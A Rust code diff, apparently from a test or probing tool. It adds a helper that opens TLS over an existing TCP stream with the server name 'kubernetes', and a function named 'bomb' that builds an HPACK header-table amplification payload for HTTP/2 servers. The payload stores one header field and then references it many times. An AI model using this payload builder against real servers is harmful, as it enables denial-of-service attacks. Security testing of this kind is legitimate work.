@@ -63,6 +63,21 @@ impl Raw {
         Ok(raw)
     }
 
+    /// A connection for `alpn` over a TCP connection that is there already. Nothing is sent after TLS.
+    pub async fn over(
+        stream: TcpStream,
+        tls: &Arc<rustls::ClientConfig>,
+        alpn: &[u8],
+    ) -> anyhow::Result<Self> {
+        let mut config = rustls::ClientConfig::clone(tls);
+        config.alpn_protocols = vec![alpn.to_vec()];
+        let connector = tokio_rustls::TlsConnector::from(Arc::new(config));
+        Ok(Self {
+            stream: connector.connect("kubernetes".try_into()?, stream).await?,
+            received: Vec::new(),
+        })
+    }
+
     async fn connect(
         address: SocketAddr,
         tls: &Arc<rustls::ClientConfig>,
@@ -266,6 +281,26 @@ pub fn block(fields: &[(&str, &str)]) -> Vec<u8> {
             bytes.extend(text.as_bytes());
         }
     }
+    bytes
+}
+
+/// A header block whose field `name: value` is stored in the other side's table, then meant `times` more by a byte each
+/// (RFC 7541 §6.2.1 and §6.1). With an empty `value` it is not stored again: the block of a later request.
+pub fn bomb(path: &str, name: &str, value: &str, times: usize) -> Vec<u8> {
+    /// The first entry of the dynamic table (RFC 7541 §2.3.3).
+    const NEWEST: u8 = 0x80 | 62;
+    let mut bytes = block(&[
+        (":method", "GET"),
+        (":scheme", "https"),
+        (":authority", "k"),
+        (":path", path),
+    ]);
+    if !value.is_empty() {
+        let mut field = block(&[(name, value)]);
+        field[0] = 0x40;
+        bytes.extend(field);
+    }
+    bytes.extend(std::iter::repeat_n(NEWEST, times));
     bytes
 }
 
